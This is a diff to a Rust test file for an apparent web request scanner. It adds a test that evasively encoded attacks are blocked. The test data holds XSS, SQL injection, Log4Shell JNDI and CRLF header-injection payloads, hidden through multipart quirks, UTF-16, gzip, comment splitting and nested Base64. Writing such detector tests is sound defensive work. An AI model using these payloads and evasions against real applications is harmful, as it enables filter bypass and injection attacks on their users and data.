@@ -3,8 +3,9 @@
 
 use std::net::SocketAddr;
 
-use super::engine::{CustomRule, Engine, Scan};
+use super::engine::{CustomRule, Engine};
 use super::inspect::{self, BodyProfile};
+use super::scan::Scan;
 use crate::exchange::{Peer, Request};
 use crate::http::head::{self, HeadLimits, RequestHead};
 use crate::http::target::{self, Target};
@@ -215,5 +216,93 @@ fn structure_of_a_model_request_is_strict() {
     ] {
         let score = bench.score(&request(head, body.as_bytes()), BodyProfile::Model);
         assert_eq!(score >= BLOCK, is_attack, "{body}: {score}");
+    }
+}
+
+/// Wrong: a way to write an attack that a parser behind us understands and we pass over.
+#[test]
+fn odd_spellings_are_read() {
+    let mut bench = Bench::new();
+    let multipart = |head: &str, part: &str| {
+        let head = format!("POST /x HTTP/1.1\r\nContent-Type: multipart/form-data; {head}");
+        request(&head, format!("--b\r\n{part}\r\n--b--\r\n").as_bytes())
+    };
+    let typed = |kind: &str, body: &str| {
+        request(&format!("POST /x HTTP/1.1\r\nContent-Type: {kind}"), body.as_bytes())
+    };
+    let get = |target: &str| request(&format!("GET {target} HTTP/1.1"), b"");
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gzip.write_all(br#"{"q":"<script>alert(1)</script>"}"#).unwrap();
+    let coded = "POST /x HTTP/1.1\r\nContent-Type: application/json\r\nContent-Encoding: gzip";
+    let many = format!("{}&z=%27+or+1%3D1+--", vec!["a=1"; 5_000].join("&"));
+    let sql = "' union select password from users--";
+    let disposition = "Content-Disposition: form-data";
+    for (name, request) in [
+        (
+            "a name without a blank",
+            multipart(
+                "boundary=b",
+                &format!("{disposition};name=\"<script>alert(1)</script>\"\r\n\r\nx"),
+            ),
+        ),
+        (
+            "a file without a name",
+            multipart(
+                "boundary=b",
+                &format!("{disposition}; name=\"q\"; filename=\"\"\r\n\r\n{sql}"),
+            ),
+        ),
+        (
+            "lines without CR",
+            multipart("boundary=b", &format!("{disposition}; name=\"q\"\n\n{sql}")),
+        ),
+        (
+            "a field of a part",
+            multipart(
+                "boundary=b",
+                &format!(
+                    "{disposition}; name=\"q\"\r\nContent-Type: ${{jndi:ldap://x/a}}\r\n\r\nx"
+                ),
+            ),
+        ),
+        (
+            "two boundaries",
+            multipart("boundary=a; boundary=b", &format!("{disposition}; name=\"q\"\r\n\r\n{sql}")),
+        ),
+        (
+            "another boundary",
+            multipart("boundary=c", &format!("{disposition}; name=\"q\"\r\n\r\n{sql}")),
+        ),
+        ("a type nobody knows", typed("x/y", "q=%3Cscript%3Ealert(1)%3C/script%3E")),
+        (
+            "UTF-16",
+            typed(
+                "application/json; charset=utf-16",
+                "{\0\"\0q\0\"\0:\0\"\0'\0 \0o\0r\0 \0\x31\0=\0\x31\0 \0-\0-\0\"\0}\0",
+            ),
+        ),
+        ("more fields than are read one by one", typed("application/x-www-form-urlencoded", &many)),
+        ("a coded body", request(coded, &gzip.finish().unwrap())),
+        ("pieces in fields of one name", get("/x?id=1+union/*&id=*/select+1,2/*&id=*/from+users")),
+        ("a comment in a word", get("/x?id=1+un/**/ion+se/**/lect+1,2+from+users")),
+        ("Base64 without an end", get("/x?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")),
+        (
+            "Base64 in Base64",
+            get(
+                "/x?d=SlNCdmNpQXhQVEVnTFMwZ2VIaDRQSE5qY21sd2RENWhiR1Z5ZENneEtUd3ZjMk55YVhCMFBnPT0=",
+            ),
+        ),
+        ("Base64 in a cookie", request("GET / HTTP/1.1\r\nCookie: d=JyBvciAxPTEgLS0geHh4", b"")),
+        (
+            "a name in Basic",
+            request("GET / HTTP/1.1\r\nAuthorization: Basic JyBvciAxPTEgLS06eA==", b""),
+        ),
+        (
+            "a coded line break in JSON",
+            typed("application/json", r#"{"to":"x%0d%0aSet-Cookie: a=b"}"#),
+        ),
+    ] {
+        let score = bench.score(&request, BodyProfile::Plain);
+        assert!(score >= BLOCK, "{name}: {score} {:?}", bench.scan.findings());
     }
 }
